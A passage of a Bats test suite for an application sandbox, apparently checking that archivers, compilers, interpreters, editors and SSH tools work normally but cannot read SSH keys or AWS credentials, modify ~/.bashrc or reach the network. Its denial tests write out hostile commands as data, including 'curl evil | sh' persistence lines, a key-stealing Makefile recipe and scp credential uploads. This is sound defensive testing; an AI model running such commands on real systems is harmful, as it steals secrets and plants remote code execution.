	[[ $(sha256sum <<<"$output") == "$sum" ]] || fail "zcat output differs"
}

# bats test_tags=app:zip,app:unzip,fn:Archive_Manager
@test "zip, unzip (Archive_Manager): make, test, list and extract an archive" {
	need_commands /usr/bin/zip /usr/bin/unzip
	tree "$H/Documents/tree"
	cd "$H/Documents"
	run --separate-stderr app -- /usr/bin/zip -q -r -T "$H/Downloads/tree.zip" tree
	ok
	run --separate-stderr app -- /usr/bin/unzip -l "$H/Downloads/tree.zip"
	ok
	[[ $output == *"tree/sub/deeper/c.bin"* ]] || { show_run; fail "listing"; }
	run --separate-stderr app -- /usr/bin/unzip -q "$H/Downloads/tree.zip" -d "$H/Downloads/out"
	ok
	same_tree "$H/Documents/tree" "$H/Downloads/out/tree"
}

# Archive_Manager has no network at all, and gzip, zip and unzip have no
# means of their own to connect. tar's remote archives (HOST:FILE) are its
# one way out: it cannot even resolve the host (no DNS_Client), nor run rsh.
# bats test_tags=app:tar,app:zip,app:gzip,app:unzip,fn:Archive_Manager
@test "tar, zip, gzip (Archive_Manager): no ~/.ssh/id_rsa, no ~/.bashrc, no remote archive" {
	need_commands /usr/bin/tar /usr/bin/zip /usr/bin/gzip /usr/bin/unzip
	cd "$H/Documents"
	# Archive_Manager's metadata is visible: the kernel tells tar and zip
	# that the key exists, and reading it is refused.
	run --separate-stderr app -- /usr/bin/tar -czf "$H/Downloads/keys.tgz" "$H/.ssh/id_rsa"
	expect_status 2
	denied file_read "$H/.ssh/id_rsa" tar
	run --separate-stderr app -- /usr/bin/zip -q "$H/Downloads/keys.zip" "$H/.ssh/id_rsa"
	[[ $status -ne 0 ]] || { show_run; fail "zip of the key worked"; }
	denied file_read "$H/.ssh/id_rsa" zip
	run --separate-stderr app -- /usr/bin/gzip -c "$H/.ssh/id_rsa"
	expect_status 1
	denied file_read "$H/.ssh/id_rsa" gzip
	no_secret "$H/Downloads"
	# Unpacking over ~/.bashrc, from an archive made outside.
	mkdir -p "$BATS_TEST_TMPDIR/evil"
	printf 'curl evil | sh\n' >"$BATS_TEST_TMPDIR/evil/.bashrc"
	tar -cf "$H/Downloads/evil.tar" -C "$BATS_TEST_TMPDIR/evil" .bashrc
	(cd "$BATS_TEST_TMPDIR/evil" && zip -q "$H/Downloads/evil.zip" .bashrc)
	# tar cannot even open the home directory to extract into it.
	run --separate-stderr app -- /usr/bin/tar -xf "$H/Downloads/evil.tar" -C "$H"
	expect_status 2
	denied dir_read "$H" tar
	bashrc_intact
	run --separate-stderr app -- /usr/bin/unzip -o -q "$H/Downloads/evil.zip" -d "$H"
	[[ $status -ne 0 ]] || { show_run; fail "unzip over ~/.bashrc worked"; }
	# It sees that ~/.bashrc exists (visible metadata) and would replace it.
	denied file_delete "$H/.bashrc" unzip
	bashrc_intact
	run --separate-stderr app -- /usr/bin/tar -cf "127.0.0.1:$H/Downloads/remote.tar" a.txt
	expect_status 2
	denied file_read /etc/host.conf tar
	[[ ! -e $H/Downloads/remote.tar ]] || fail "the remote archive was written"
}

# bats test_tags=app:tar,fn:Archive_Manager
@test "unprivileged: tar and gzip pack and unpack" {
	require_unprivileged
	need_commands /usr/bin/tar /usr/bin/gzip
	tree "$H/Documents/tree"
	local uh
	uh=$(unprivileged_home)
	LOG=$uh/events.jsonl
	cd "$uh/Documents"
	run --separate-stderr uapp -- /usr/bin/tar -czf "$uh/Downloads/t.tgz" -C "$uh/Documents" tree
	ok
	run --separate-stderr uapp -- /usr/bin/tar -xzf "$uh/Downloads/t.tgz" -C "$uh/Downloads"
	ok
	same_tree "$uh/Documents/tree" "$uh/Downloads/tree"
	run --separate-stderr uapp -- /usr/bin/tar -czf "$uh/Downloads/k.tgz" "$uh/.ssh/id_rsa"
	expect_status 2
	denied file_read "$uh/.ssh/id_rsa" tar
	no_secret "$uh/Downloads"
}

# ---------------------------------------------------------------------------
# Software_Build: make, gcc

# c_project DIR: a small C project with a Makefile and a test.
c_project() {
	mkdir -p "$1"
	cat >"$1/greet.c" <<'C'
#include <stdio.h>
#include "greet.h"
void greet(const char *who) { printf("hello, %s\n", who); }
C
	printf 'void greet(const char *who);\n' >"$1/greet.h"
	cat >"$1/main.c" <<'C'
#include "greet.h"
int main(int argc, char **argv) { greet(argc > 1 ? argv[1] : "world"); return 0; }
C
	printf '%s\n' 'CC = gcc' 'hello: main.o greet.o' '	$(CC) -o $@ main.o greet.o' \
		'%.o: %.c greet.h' '	$(CC) -O2 -Wall -c $<' \
		'check: hello' '	./hello make > out.txt' '	test "$$(cat out.txt)" = "hello, make"' \
		'dist: hello' '	tar -czf hello.tar.gz hello greet.c main.c greet.h Makefile' \
		>"$1/Makefile"
}

# bats test_tags=app:make,app:gcc,fn:Software_Build
@test "make, gcc (Software_Build): build, test and package a C project in ~/src" {
	need_commands /usr/bin/make /usr/bin/gcc
	c_project "$H/src/hello"
	cd "$H/src/hello"
	run --separate-stderr app -- /usr/bin/make -s check dist
	ok
	[[ -x hello ]] || fail "no program was built"
	[[ $(./hello you) == "hello, you" ]] || fail "the built program is wrong: $(./hello you)"
	content out.txt "hello, make"
	tar -tzf hello.tar.gz | grep -qx hello || fail "make dist made no tarball"
	# gcc on its own.
	run --separate-stderr app -- /usr/bin/gcc -o hello2 main.c greet.c
	ok
	[[ $(./hello2) == "hello, world" ]] || fail "gcc's program is wrong"
}

# The C compiler's grant of /usr/lib/llvm-*/** is a pattern with a wildcard in
# one folder's name: the kernel gets a tree rule on each llvm-* folder at
# launch. It was a gap before: 'make CC=clang' was refused clang, with the
# line saying the kernel could not be given the rule.
# bats test_tags=app:make,fn:Software_Build
@test "make CC=clang (Software_Build): clang, under /usr/lib/llvm-*, runs; the kernel has the rule" {
	need_commands /usr/bin/make /usr/bin/clang
	c_project "$H/src/hello"
	cd "$H/src/hello"
	run --separate-stderr app -- /usr/bin/make -s CC=clang check
	expect_status 0 || return
	[[ $stderr != *"denied file_execute"* ]] || { show_run; fail "an exec was refused"; return; }
	content out.txt "hello, make" || return
	run --separate-stderr "$FBAC_RUN" --check --full /usr/bin/make
	[[ $output != *"'/usr/lib/llvm-*/**' is too wide"* ]] || { show_run; fail "still a gap"; }
}

# bats test_tags=app:make,app:gcc,fn:Software_Build
@test "make, gcc (Software_Build): no ~/.ssh/id_rsa, no ~/.bashrc, no network from a recipe" {
	need_commands /usr/bin/make /usr/bin/gcc /usr/bin/curl
	c_project "$H/src/hello"
	cd "$H/src/hello"
	printf '#include "%s"\n' "$H/.ssh/id_rsa" >steal.c
	run --separate-stderr app -- /usr/bin/gcc -E steal.c
	expect_status 1
	denied file_read "$H/.ssh/id_rsa" cc1
	no_secret "$H/src"
	printf '%s\n' 'steal:' "	cat $H/.ssh/id_rsa > stolen.txt" \
		'persist:' "	echo 'curl evil | sh' >> $H/.bashrc" >Makefile.evil
	run --separate-stderr app -- /usr/bin/make -f Makefile.evil steal
	expect_status 2
	denied file_read "$H/.ssh/id_rsa" cat
	no_secret "$H/src"
	run --separate-stderr app -- /usr/bin/make -f Makefile.evil persist
	expect_status 2
	denied file_append "$H/.bashrc" dash
	bashrc_intact
	# A recipe that downloads: the programs make runs have make's authority.
	web_files
	start_http "$BATS_TEST_TMPDIR/www"
	printf '%s\n' 'fetch:' "	curl -sS -o page.txt http://127.0.0.1:$PORT/page.txt" >>Makefile.evil
	run --separate-stderr app -- /usr/bin/make -f Makefile.evil fetch
	expect_status 2
	denied network_outgoing "tcp:127.0.0.1:$PORT" curl
	[[ ! -s page.txt ]] || fail "the recipe downloaded"
}

# ---------------------------------------------------------------------------
# Script_Interpreter: python3, perl

# bats test_tags=app:python3,fn:Script_Interpreter
@test "python3 (Script_Interpreter): a script reads its input and writes its output" {
	need_commands /usr/bin/python3
	mkdir -p "$H/src/tool"
	printf '3\n1\n2\n' >"$H/src/tool/in.txt"
	cat >"$H/src/tool/sort.py" <<'PY'
import json, sys
numbers = sorted(int(l) for l in open(sys.argv[1]))
with open(sys.argv[2], "w") as out:
    json.dump({"sorted": numbers, "sum": sum(numbers)}, out)
print("done", len(numbers))
PY
	cd "$H/src/tool"
	run --separate-stderr app -- /usr/bin/python3 sort.py in.txt out.json
	ok
	[[ $output == "done 3" ]] || { show_run; fail "stdout"; }
	content out.json '{"sorted": [1, 2, 3], "sum": 6}'
}

# bats test_tags=app:python3,fn:Script_Interpreter
@test "python3 (Script_Interpreter): no ~/.ssh/id_rsa, no ~/.bashrc, no connection" {
	need_commands /usr/bin/python3
	mkdir -p "$H/src/tool"
	cd "$H/src/tool"
	run --separate-stderr app -- /usr/bin/python3 -c "print(open('$H/.ssh/id_rsa').read())"
	expect_status 1
	denied file_read "$H/.ssh/id_rsa" python3.11
	no_secret
	run --separate-stderr app -- /usr/bin/python3 -c "open('$H/.bashrc', 'a').write('curl evil | sh\n')"
	expect_status 1
	denied file_append "$H/.bashrc" python3.11
	bashrc_intact
	web_files
	start_http "$BATS_TEST_TMPDIR/www"
	run --separate-stderr app -- /usr/bin/python3 -c \
		"import urllib.request; print(urllib.request.urlopen('http://127.0.0.1:$PORT/page.txt').read())"
	expect_status 1
	denied network_outgoing "tcp:127.0.0.1:$PORT" python3.11
	[[ $output != *"hello from"* ]] || fail "the script downloaded"
}

# bats test_tags=app:perl,fn:Script_Interpreter
@test "perl (Script_Interpreter): a script reads its input and writes its output" {
	need_commands /usr/bin/perl
	mkdir -p "$H/src/tool"
	printf 'b 2\na 1\nc 3\n' >"$H/src/tool/in.txt"
	cat >"$H/src/tool/tally.pl" <<'PL'
use strict; use warnings;
open(my $in, '<', $ARGV[0]) or die "open: $!";
my %n; while (<$in>) { my ($k, $v) = split; $n{$k} = $v; }
open(my $out, '>', $ARGV[1]) or die "open: $!";
print $out join(",", map { "$_=$n{$_}" } sort keys %n), "\n";
close($out) or die; print "total ", eval { my $t = 0; $t += $_ for values %n; $t }, "\n";
PL
	cd "$H/src/tool"
	run --separate-stderr app -- /usr/bin/perl tally.pl in.txt out.txt
	ok
	[[ $output == "total 6" ]] || { show_run; fail "stdout"; }
	content out.txt "a=1,b=2,c=3"
}

# bats test_tags=app:perl,fn:Script_Interpreter
@test "perl (Script_Interpreter): no ~/.ssh/id_rsa, no ~/.bashrc, no connection" {
	need_commands /usr/bin/perl
	mkdir -p "$H/src/tool"
	cd "$H/src/tool"
	run --separate-stderr app -- /usr/bin/perl -e "open(F, '<', '$H/.ssh/id_rsa') or die \"no: \$!\\n\"; print <F>"
	expect_status 13
	denied file_read "$H/.ssh/id_rsa" perl
	no_secret
	run --separate-stderr app -- /usr/bin/perl -e "open(F, '>>', '$H/.bashrc') or die \"no: \$!\\n\"; print F qq(evil\\n)"
	expect_status 13
	denied file_append "$H/.bashrc" perl
	bashrc_intact
	closed_port
	run --separate-stderr app -- /usr/bin/perl -MIO::Socket::INET -e \
		"IO::Socket::INET->new(PeerAddr => '127.0.0.1:$NOPORT') or die \"no: \$@\\n\""
	[[ $status -ne 0 ]] || { show_run; fail "perl connected"; }
	denied network_outgoing "tcp:127.0.0.1:$NOPORT" perl
}

# bats test_tags=app:python3,fn:Script_Interpreter
@test "unprivileged: python3 runs a script in ~/src" {
	require_unprivileged
	need_commands /usr/bin/python3
	mkdir -p "$H/src"
	printf 'import sys\nopen(sys.argv[2], "w").write(open(sys.argv[1]).read().upper())\n' >"$H/src/up.py"
	printf 'shout\n' >"$H/src/in.txt"
	local uh
	uh=$(unprivileged_home)
	LOG=$uh/events.jsonl
	# (run_unprivileged starts in the staging directory: absolute paths.)
	run --separate-stderr uapp -- /usr/bin/python3 "$uh/src/up.py" "$uh/src/in.txt" "$uh/src/out.txt"
	ok
	content "$uh/src/out.txt" SHOUT
	run --separate-stderr uapp -- /usr/bin/python3 -c "open('$uh/.ssh/id_rsa').read()"
	expect_status 1
	denied file_read "$uh/.ssh/id_rsa" python3.11
	no_secret
}

# ---------------------------------------------------------------------------
# File_Editor: vim, nano (in tmux)

notes() {
	printf 'first line\n' >"$H/Documents/notes.txt"
}

# bats test_tags=app:vim,fn:File_Editor
@test "vim (File_Editor): edits a file in ~/Documents on a terminal" {
	need_commands /usr/bin/vim.basic
	notes
	# vim opens its working directory to come back to it: from ~ that is a
	# denial (File_Editor does not list the home directory).
	cd "$H/Documents"
	tty_start -- /usr/bin/vim.basic "$H/Documents/notes.txt"
	wait_pane "first line"
	keys 'Go' 'added in vim' Escape ':wq' Enter
	wait_pane "fbac-run-status=0"
	content "$H/Documents/notes.txt" $'first line\nadded in vim'
	tty_clean
}

# bats test_tags=app:vim,fn:File_Editor
@test "vim (File_Editor): no ~/.ssh/id_rsa, no ~/.bashrc, no network from :r !cmd" {
	need_commands /usr/bin/vim.basic /usr/bin/curl
	web_files
	start_http "$BATS_TEST_TMPDIR/www"
	notes
	tty_start -- /usr/bin/vim.basic "$H/.ssh/id_rsa"
	wait_pane "Permission"
	keys ':r !curl -sS http://127.0.0.1:'"$PORT"'/page.txt' Enter
	wait_pane "shell returned 7"
	keys Enter
	keys ':w! ~/.bashrc' Enter
	wait_pane '"~/.bashrc"'
	keys ':q!' Enter
	wait_pane "fbac-run-status="
	tty_denied file_read "$H/.ssh/id_rsa" vim.basic
	tty_denied network_outgoing "tcp:127.0.0.1:$PORT" curl
	tty_denied file_write "$H/.bashrc" vim.basic
	bashrc_intact
	no_secret "$H/Documents" "$H/.viminfo"
}

# nano asks the password database for root's home, not $HOME: as root, it
# would look for /root/.local/share/nano. These cases run as uid 65534 (as
# any other user, nano uses $HOME).
# bats test_tags=app:nano,fn:File_Editor
@test "nano (File_Editor): edits a file in ~/Documents on a terminal (unprivileged)" {
	require_unprivileged
	need_commands /usr/bin/nano
	notes
	local uh
	uh=$(unprivileged_home)
	LOG=$uh/events.jsonl
	TTY_UNPRIV=1 tty_start -- /usr/bin/nano "$uh/Documents/notes.txt"
	wait_pane "first line"
	keys M-/ 'added in nano' C-o
	wait_pane "File Name to Write"
	keys Enter
	wait_pane "Wrote"
	keys C-x
	wait_pane "fbac-run-status=0"
	content "$uh/Documents/notes.txt" $'first line\nadded in nano'
	tty_clean
}

# nano has no means of its own to connect, and its policy runs no program
# (^T "Execute" would need a shell): no network case.
# bats test_tags=app:nano,fn:File_Editor
@test "nano (File_Editor): no ~/.ssh/id_rsa, no ~/.bashrc (unprivileged)" {
	require_unprivileged
	need_commands /usr/bin/nano
	notes
	local uh
	uh=$(unprivileged_home)
	LOG=$uh/events.jsonl
	TTY_UNPRIV=1 tty_start -- /usr/bin/nano "$uh/Documents/notes.txt"
	wait_pane "first line"
	# ^R: insert the key into the buffer.
	keys C-r
	wait_pane "File to insert"
	keys "$uh/.ssh/id_rsa" Enter
	wait_pane "id_rsa"
	# ^O to ~/.bashrc.
	keys C-o
	wait_pane "File Name to Write"
	keys C-a C-k "$uh/.bashrc" Enter
	wait_pane "Save file under DIFFERENT NAME"
	keys y
	wait_pane "Permission denied"
	keys C-x
	wait_pane "fbac-run-status="
	tty_denied file_getattr "$uh/.ssh/id_rsa" nano
	tty_denied file_write "$uh/.bashrc" nano
	bashrc_intact "$uh"
	content "$uh/Documents/notes.txt" "first line"
}

# ---------------------------------------------------------------------------
# Text_Viewer: less (in tmux)

# bats test_tags=app:less,fn:Text_Viewer
@test "less (Text_Viewer): shows a file on a terminal" {
	need_commands /usr/bin/less
	seq 1 200 | sed 's/^/line /' >"$H/Documents/long.txt"
	tty_start -- /usr/bin/less "$H/Documents/long.txt"
	wait_pane "line 1"$'\n'
	keys G
	wait_pane "line 200"
	keys '?line 150' Enter
	wait_pane "line 150"
	keys q
	wait_pane "fbac-run-status=0"
	tty_clean
}

# bats test_tags=app:less,fn:Text_Viewer
@test "less (Text_Viewer): no ~/.ssh/id_rsa, no ~/.bashrc, no network from !cmd" {
	need_commands /usr/bin/less /usr/bin/curl
	web_files
	start_http "$BATS_TEST_TMPDIR/www"
	printf 'a document\n' >"$H/Documents/doc.txt"
	# The history file, pointed at ~/.bashrc.
	TTY_ENV="LESSHISTFILE=$H/.bashrc"
	tty_start -- /usr/bin/less "$H/Documents/doc.txt" "$H/.ssh/id_rsa"
	wait_pane "a document"
	keys ':n'
	wait_pane "Permission denied"
	keys Enter
	wait_pane "No next file"
	keys Enter
	sleep 0.2
	keys '!curl -sS http://127.0.0.1:'"$PORT"'/page.txt' Enter
	wait_pane "!done"
	keys Enter '/docu' Enter q
	wait_pane "fbac-run-status="
	tty_denied file_getattr "$H/.ssh/id_rsa" less
	tty_denied network_outgoing "tcp:127.0.0.1:$PORT" curl
	tty_denied file_create "$H/.bashrQ" less
	bashrc_intact
	[[ ! -e $H/.bashrQ ]] || fail "less wrote its history beside ~/.bashrc"
	# Without a terminal, less copies its input: the key is not read either.
	run --separate-stderr app -- /usr/bin/less "$H/.ssh/id_rsa"
	denied file_getattr "$H/.ssh/id_rsa" less
	no_secret
	[[ $output == *"id_rsa: Permission denied"* ]] || { show_run; fail "no error from less"; }
}

# ---------------------------------------------------------------------------
# Text_Viewer: jq, file

# order_json FILE: an order of two items (11 in all).
order_json() {
	printf '%s\n' '{"customer": "alice", "items": [' \
		'  {"name": "pear", "price": 2, "qty": 3},' \
		'  {"name": "fig", "price": 5, "qty": 1}' ']}' >"$1"
}

# bats test_tags=app:jq,fn:Text_Viewer
@test "jq (Text_Viewer): filters JSON files from ~/Documents, ~/Downloads and ~/src, with ~/.jq" {
	need_commands /usr/bin/jq
	order_json "$H/Documents/order.json"
	printf '{"customer": "bob", "items": [{"name": "kiwi", "price": 1, "qty": 4}]}\n' \
		>"$H/Downloads/order2.json"
	mkdir -p "$H/src/api"
	printf '{"version": "1.2.3", "tags": ["b", "a"]}\n' >"$H/src/api/meta.json"
	cd "$H/Documents"
	run --separate-stderr app -- /usr/bin/jq -r '.items | map("\(.name)=\(.price * .qty)") | join(",")' order.json
	ok
	[[ $output == "pear=6,fig=5" ]] || { show_run; fail "filter"; }
	# Several files, slurped; a file from another folder as a variable.
	run --separate-stderr app -- /usr/bin/jq -c -s --slurpfile m "$H/src/api/meta.json" \
		'{customers: map(.customer), items: (map(.items | length) | add), v: $m[0].version}' \
		order.json "$H/Downloads/order2.json"
	ok
	[[ $output == '{"customers":["alice","bob"],"items":3,"v":"1.2.3"}' ]] || { show_run; fail "slurp"; }
	# Standard input, and the user's own jq functions: ~/.jq as a file is
	# sourced into every program.
	printf 'def total: .items | map(.price * .qty) | add;\n' >"$H/.jq"
	run --separate-stderr app -- /usr/bin/jq total <"$H/Documents/order.json"
	ok
	[[ $output == 11 ]] || { show_run; fail "~/.jq was not used: $output"; }
	# ~/.jq as a directory is the default module path.
	rm "$H/.jq"
	mkdir "$H/.jq"
	printf 'def total: .items | map(.price * .qty) | add;\n' >"$H/.jq/shop.jq"
	run --separate-stderr app -- /usr/bin/jq 'import "shop" as shop; shop::total' order.json
	ok
	[[ $output == 11 ]] || { show_run; fail "the module in ~/.jq was not used: $output"; }
}

# jq only prints (it writes no file) and has no means to connect: no
# ~/.bashrc or network case.
# bats test_tags=app:jq,fn:Text_Viewer
@test "jq (Text_Viewer): no ~/.ssh/id_rsa, no file outside its folders" {
	need_commands /usr/bin/jq
	order_json "$H/Documents/order.json"
	run --separate-stderr app -- /usr/bin/jq -R . "$H/.ssh/id_rsa"
	expect_status 2
	denied file_read "$H/.ssh/id_rsa" jq
	no_secret
	run --separate-stderr app -- /usr/bin/jq -n --rawfile k "$H/.ssh/id_rsa" '$k'
	expect_status 2
	denied file_read "$H/.ssh/id_rsa" jq
	no_secret
	# A module path pointing into ~/.ssh.
	run --separate-stderr app -- /usr/bin/jq -L "$H/.ssh" -n 'include "id_rsa"; 1'
	[[ $status -ne 0 ]] || { show_run; fail "jq included from ~/.ssh"; }
	[[ ${stderr-} == *"fbac: denied "*"'$H/.ssh"* ]] || { show_run; fail "no denial for ~/.ssh"; }
	no_secret
	# A JSON file directly in the home is not in the folders it reads.
	printf '{"token": "%s"}\n' "$SECRET" >"$H/settings.json"
	run --separate-stderr app -- /usr/bin/jq . "$H/settings.json"
	expect_status 2
	denied file_read "$H/settings.json" jq
	no_secret
}

# bats test_tags=app:file,fn:Text_Viewer
@test "file (Text_Viewer): tells the type of files in the home and /etc, with ~/.magic" {
	need_commands /usr/bin/file /usr/bin/gzip /usr/bin/xz
	pdf "$H/Documents/doc.pdf" "Hello from a PDF"
	ppm "$H/Pictures/in.ppm"
	order_json "$H/Downloads/order.json"
	gzip -k "$H/Downloads/order.json"
	xz -k "$H/Downloads/order.json"
	cd "$H"
	run --separate-stderr app -- /usr/bin/file -b Documents/doc.pdf Pictures/in.ppm \
		Downloads/order.json Downloads/order.json.gz /etc/passwd
	ok
	[[ ${lines[0]} == "PDF document, version 1.4"* ]] || { show_run; fail "the PDF"; }
	[[ ${lines[1]} == "Netpbm image data, size = 4 x 2, pixmap, ASCII text" ]] || { show_run; fail "the picture"; }
	[[ ${lines[2]} == "JSON"* ]] || { show_run; fail "the JSON file"; }
	[[ ${lines[3]} == "gzip compressed data, was \"order.json\""* ]] || { show_run; fail "the gzip file"; }
	[[ ${lines[4]} == "ASCII text" ]] || { show_run; fail "/etc/passwd"; }
	# Inside compressed files, and MIME types.
	run --separate-stderr app -- /usr/bin/file -b -z Downloads/order.json.gz Downloads/order.json.xz
	ok
	[[ ${lines[0]} == "JSON"*"(gzip compressed data"* && ${lines[1]} == "JSON"*"(XZ compressed data"* ]] ||
		{ show_run; fail "-z"; }
	run --separate-stderr app -- /usr/bin/file -b --mime-type Documents/doc.pdf Pictures/in.ppm
	ok
	[[ $output == $'application/pdf\nimage/x-portable-pixmap' ]] || { show_run; fail "--mime-type"; }
	# The user's own magic in ~/.magic.
	printf '0\tstring\tFBAC-NOTES\tfbac notes file\n>11\tbyte\tx\t\\b, version %%c\n' >"$H/.magic"
	printf 'FBAC-NOTES 2\nbuy milk\n' >"$H/Documents/notes.dat"
	run --separate-stderr app -- /usr/bin/file -b Documents/notes.dat
	ok
	[[ $output == "fbac notes file, version 2" ]] || { show_run; fail "~/.magic was not used: $output"; }
}

# file has no means to connect: no network case. It reads everything in
# the home but the protected paths, and writes only one thing: a compiled
# magic file (-C), into the working directory.
# bats test_tags=app:file,fn:Text_Viewer
@test "file (Text_Viewer): no ~/.ssh/id_rsa, no ~/.aws/credentials, writes nothing in the home" {
	need_commands /usr/bin/file
	cd "$H"
	run --separate-stderr app -- /usr/bin/file "$H/.ssh/id_rsa"
	expect_status 0
	[[ $output == *"cannot open"*"Permission denied"* ]] || { show_run; fail "file read the key"; }
	denied file_read "$H/.ssh/id_rsa" file
	# The key as a magic file: its lines would come back in the errors.
	run --separate-stderr app -- /usr/bin/file -m "$H/.ssh/id_rsa" /etc/passwd
	[[ $status -ne 0 ]] || { show_run; fail "file used the key as magic"; }
	denied file_read "$H/.ssh/id_rsa" file
	run --separate-stderr app -- /usr/bin/file -b "$H/.aws/credentials"
	[[ $output == *"cannot open"* ]] || { show_run; fail "file read the credentials"; }
	denied file_read "$H/.aws/credentials" file
	no_secret
	run --separate-stderr app -- /usr/bin/file -b .bashrc
	denied file_read "$H/.bashrc" file
	# -C compiles ~/.magic into ~/.magic.mgc: refused.
	printf '0\tstring\tFBAC-NOTES\tfbac notes file\n' >"$H/.magic"
	run --separate-stderr app -- /usr/bin/file -C -m .magic
	expect_status 1
	denied file_create "$H/.magic.mgc" file
	[[ ! -e $H/.magic.mgc ]] || fail "file wrote ~/.magic.mgc"
	bashrc_intact
}

# ---------------------------------------------------------------------------
# SSH_Client: ssh, scp, rsync, against a loopback sshd run as root

# start_sshd: an sshd on loopback (as root, outside the sandbox) that lets
# the test key in as root; a client key in ~/.ssh and ~/.ssh/config naming
# the server "testhost". OpenSSH takes ~ from the password database, not
# $HOME, so the client is given -F ~/.ssh/config with absolute paths.
start_sshd() {
	[[ $EUID -eq 0 ]] || skip_or_fail "sshd needs root"
	need_commands /usr/sbin/sshd /usr/bin/ssh-keygen
	local d=$BATS_TEST_TMPDIR/sshd
	mkdir -p "$d" /run/sshd
	ssh-keygen -q -t ed25519 -N '' -f "$d/host_key"
	ssh-keygen -q -t ed25519 -N '' -C test -f "$H/.ssh/id_ed25519"
	cp "$H/.ssh/id_ed25519.pub" "$d/authorized_keys"
	SSH_PORT=$(free_port)
	cat >"$d/sshd_config" <<CFG
Port $SSH_PORT
ListenAddress 127.0.0.1
HostKey $d/host_key
PidFile none
AuthorizedKeysFile $d/authorized_keys
StrictModes no
UsePAM no
PasswordAuthentication no
KbdInteractiveAuthentication no
PermitRootLogin prohibit-password
Subsystem sftp internal-sftp
LogLevel ERROR
CFG
	background sshd /usr/sbin/sshd -D -e -f "$d/sshd_config"
	wait_port "$SSH_PORT"
	ssh_config "$H"
	# No known_hosts yet: ssh makes it (SSH_Keys grants that one file).
	REMOTE=$BATS_TEST_TMPDIR/remote
	mkdir -p "$REMOTE"
}

# ssh_config HOME: HOME/.ssh/config for testhost.
ssh_config() {
	cat >"$1/.ssh/config" <<CFG
Host testhost
	HostName 127.0.0.1
	Port $SSH_PORT
	User root
	IdentityFile $1/.ssh/id_ed25519
	IdentitiesOnly yes
	UserKnownHostsFile $1/.ssh/known_hosts
	StrictHostKeyChecking accept-new
	BatchMode yes
CFG
}

# bats test_tags=app:ssh,app:scp,app:rsync,fn:SSH_Client
@test "ssh, scp, rsync (SSH_Client): log in, copy and synchronise with a loopback sshd" {
	need_commands /usr/bin/ssh /usr/bin/scp /usr/bin/rsync
	start_sshd
	run --separate-stderr app -D "ports=$SSH_PORT" -- /usr/bin/ssh -F "$H/.ssh/config" testhost \
		'echo remote-$((6*7))'
	ok
	[[ $output == remote-42 ]] || { show_run; fail "ssh output"; }
	grep -q '127.0.0.1' "$H/.ssh/known_hosts" || fail "ssh did not record the host key"
	# scp both ways (SFTP, through an ssh child).
	head -c 50000 /dev/urandom >"$H/Downloads/up.bin"
	run --separate-stderr app -D "ports=$SSH_PORT" -- /usr/bin/scp -q -F "$H/.ssh/config" \
		"$H/Downloads/up.bin" "testhost:$REMOTE/up.bin"
	ok
	cmp "$H/Downloads/up.bin" "$REMOTE/up.bin" || fail "scp upload differs"
	printf 'from the server\n' >"$REMOTE/down.txt"
	run --separate-stderr app -D "ports=$SSH_PORT" -- /usr/bin/scp -q -F "$H/.ssh/config" \
		"testhost:$REMOTE/down.txt" "$H/Documents/down.txt"
	ok
	content "$H/Documents/down.txt" "from the server"
	# rsync over ssh, a tree.
	tree "$H/Documents/tree"
	run --separate-stderr app -D "SSH_Client.ports=22,$SSH_PORT" -- /usr/bin/rsync -a \
		-e "ssh -F $H/.ssh/config" "$H/Documents/tree/" "testhost:$REMOTE/tree/"
	ok
	same_tree "$H/Documents/tree" "$REMOTE/tree"
	printf 'changed remotely\n' >"$REMOTE/tree/a.txt"
	run --separate-stderr app -D "SSH_Client.ports=22,$SSH_PORT" -- /usr/bin/rsync -a \
		-e "ssh -F $H/.ssh/config" "testhost:$REMOTE/tree/" "$H/Downloads/tree/"
	ok
	same_tree "$REMOTE/tree" "$H/Downloads/tree"
}

# SSH_Client reads ~/.ssh by design (it is the key's user): the secret here
# is ~/.aws/credentials.
# bats test_tags=app:ssh,app:scp,fn:SSH_Client
@test "ssh, scp (SSH_Client): no other secret, no ~/.bashrc, no other port" {
	need_commands /usr/bin/ssh /usr/bin/scp
	start_sshd
	run --separate-stderr app -D "ports=$SSH_PORT" -- /usr/bin/scp -q -F "$H/.ssh/config" \
		"$H/.aws/credentials" "testhost:$REMOTE/stolen"
	[[ $status -ne 0 ]] || { show_run; fail "scp uploaded the credentials"; }
	denied file_getattr "$H/.aws/credentials" scp
	no_secret "$REMOTE"
	printf 'curl evil | sh\n' >"$REMOTE/evil"
	run --separate-stderr app -D "ports=$SSH_PORT" -- /usr/bin/scp -q -F "$H/.ssh/config" \
		"testhost:$REMOTE/evil" "$H/.bashrc"
	[[ $status -ne 0 ]] || { show_run; fail "scp wrote ~/.bashrc"; }
	denied file_write "$H/.bashrc" scp
	bashrc_intact
	closed_port
	run --separate-stderr app -D "ports=$SSH_PORT" -- /usr/bin/ssh -F "$H/.ssh/config" \
		-p "$NOPORT" testhost true
	expect_status 255
	denied network_outgoing "tcp:127.0.0.1:$NOPORT" ssh
}

# bats test_tags=app:ssh,app:scp,fn:SSH_Client
@test "unprivileged: ssh logs in and scp copies as uid 65534" {
	require_unprivileged
	need_commands /usr/bin/ssh /usr/bin/scp
	start_sshd
	local uh
	uh=$(unprivileged_home)
	ssh_config "$uh"
	chown 65534:65534 "$uh/.ssh/config"
	LOG=$uh/events.jsonl
	run --separate-stderr uapp -D "ports=$SSH_PORT" -- /usr/bin/ssh -F "$uh/.ssh/config" testhost 'echo remote-ok'
	ok
	[[ $output == remote-ok ]] || { show_run; fail "ssh output"; }
	printf 'unprivileged upload\n' >"$REMOTE/x"
	run --separate-stderr uapp -D "ports=$SSH_PORT" -- /usr/bin/scp -q -F "$uh/.ssh/config" \
		"testhost:$REMOTE/x" "$uh/Downloads/x"
	ok
	content "$uh/Downloads/x" "unprivileged upload"
	run --separate-stderr uapp -D "ports=$SSH_PORT" -- /usr/bin/scp -q -F "$uh/.ssh/config" \
		"$uh/.aws/credentials" "testhost:$REMOTE/stolen"
	[[ $status -ne 0 ]] || { show_run; fail "scp uploaded the credentials"; }
	denied file_getattr "$uh/.aws/credentials" scp
	no_secret "$REMOTE"
}

# bats test_tags=app:sftp,fn:SSH_Client
@test "sftp (SSH_Client): uploads, downloads and manages files on a loopback sshd" {
	need_commands /usr/bin/sftp
	start_sshd
	head -c 50000 /dev/urandom >"$H/Documents/report.bin"
	printf 'from the server\n' >"$REMOTE/notes.txt"
	# A batch of commands on standard input (-b -): sftp stops at the first
	# one that fails.
